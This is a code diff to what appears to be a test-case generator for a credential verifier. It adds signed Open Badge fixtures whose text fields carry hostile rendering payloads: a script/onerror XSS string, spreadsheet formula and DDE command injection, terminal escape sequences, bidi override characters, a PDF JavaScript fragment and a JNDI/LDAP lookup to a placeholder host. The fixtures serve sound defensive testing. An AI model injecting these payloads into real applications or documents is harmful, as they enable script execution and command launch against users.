@@ -8,8 +8,8 @@ use rand_chacha::rand_core::SeedableRng as _;
 use serde_json::{Value, json};
 
 use super::files::world;
-use super::pictures;
 use super::world::{World, now, stranger};
+use super::{pictures, seals};
 
 pub(crate) struct Case {
     pub(crate) rule: &'static str,
@@ -21,7 +21,19 @@ pub(crate) struct Case {
 }
 
 pub(crate) fn cases() -> Vec<Case> {
-    [json_texts(), rearranged(), proofs(), tokens(), cose(), disclosures(), dates(), pictures::cases()].concat()
+    [
+        json_texts(),
+        rearranged(),
+        proofs(),
+        tokens(),
+        cose(),
+        disclosures(),
+        dates(),
+        pictures::cases(),
+        seals::cases(),
+        rendering(),
+    ]
+    .concat()
 }
 
 impl Clone for Case {
@@ -186,6 +198,35 @@ fn class_as_key() -> Case {
     let achievement = subject.shift_remove("achievement").unwrap();
     subject.insert("Achievement".to_owned(), achievement);
     case("json-ld", "undecided", "class-as-key-under-another-context", "json", sealed.to_string())
+}
+
+/// What is sealed as it should be, and would do something to whoever is shown it: `verifier/tests/rendering.rs` shows it all.
+fn rendering() -> Vec<Case> {
+    let (world, badge) = badge();
+    let method = world.issuer.method(Format::OpenBadge).unwrap();
+    let shown = |name, text: &str| {
+        let mut badge = badge.clone();
+        badge.as_object_mut().unwrap().shift_remove("proof");
+        badge["name"] = json!(text);
+        for member in ["name", "description"] {
+            badge["credentialSubject"]["achievement"][member] = json!(text);
+        }
+        badge["credentialSubject"]["achievement"]["criteria"]["narrative"] = json!(text);
+        case("rendering", "valid", name, "json", world.proven(&badge, &method, world.key()).to_string())
+    };
+    vec![
+        shown("a-program-for-browsers", "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>"),
+        shown("a-formula-for-spreadsheets", "=HYPERLINK(\"https://a.example\",\"open\")"),
+        shown("another-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        shown("commands-for-terminals", "\u{1b}[2J\u{1b}]0;Genuine, in force\u{7}\u{9b}31m"),
+        shown("lines-of-its-own", "Welding\r\nWho issued it? Yes\n\tGenuine, in force\u{2028}x\u{2029}y\u{85}z"),
+        shown("read-from-the-right", "Welding \u{202e}gnidleW\u{202c} \u{2066}x\u{2069}\u{200f}"),
+        shown("letters-that-nobody-sees", "Wel\u{200b}ding\u{feff}\u{ad}\u{2060}\u{e0041}"),
+        shown("strings-of-documents", "Welding) Tj ET /JavaScript (app.alert(1)) << >> \\"),
+        shown("a-place-for-a-value", "{ $name } %s {0} ${jndi:ldap://a.example}"),
+        shown("a-very-long-word", &"W".repeat(20_000)),
+        shown("marks-without-end", &format!("W{}", "\u{301}".repeat(500))),
+    ]
 }
 
 fn proofs() -> Vec<Case> {
